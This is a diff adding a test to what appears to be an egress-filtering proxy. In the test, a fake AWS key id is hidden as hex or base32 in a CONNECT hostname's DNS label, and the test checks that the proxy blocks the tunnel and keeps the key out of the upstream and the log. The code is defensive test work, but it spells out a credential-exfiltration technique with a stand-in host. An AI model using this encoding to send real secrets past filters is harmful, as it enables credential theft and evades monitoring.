@@ -90,3 +90,24 @@ def test_a_key_in_the_connect_name_never_reaches_the_upstream_or_the_log(tmp_pat
     assert key.encode() not in b"".join(catcher.received) and key.lower().encode() not in b"".join(catcher.received)
     assert catcher.received, (outcome, control)  # the control tunnel reached the upstream
     assert "aws-access-key-id" in proxy.log and key not in proxy.log
+
+
+def test_a_key_hex_or_base32_encoded_in_the_connect_name_never_reaches_the_upstream(tmp_path, catcher):
+    """attack16: a DNS label holds the hex (40) or base32 (32) of an AWS key id; the name was read as written."""
+    import base64
+
+    raw = fakes.aws_key_id().encode()
+    labels = [raw.hex(), base64.b32encode(raw).decode().lower()]
+    policy = tmp_path / "policy.yaml"
+    policy.write_text("version: 1\nunlisted_hosts: {mode: observe, actions: {request: {secret/precise: block}}}\n")
+    proxy = harness.start_proxy(tmp_path, catcher, "--set", f"exitguard_policy={policy}")  # type: ignore[arg-type]
+    try:
+        for label in labels:
+            tunnel(proxy, f"{label}.unlisted.example", ["http/1.1"])
+        tunnel(proxy, "unlisted.example", ["http/1.1"])  # the same tunnel without the key connects
+    finally:
+        proxy.stop()
+    caught = b"".join(catcher.received).lower()
+    assert catcher.received and not [label for label in labels if label.encode() in caught]
+    assert proxy.log.count("aws-access-key-id") >= len(labels) and not [label for label in labels
+                                                                         if label in proxy.log.lower()]
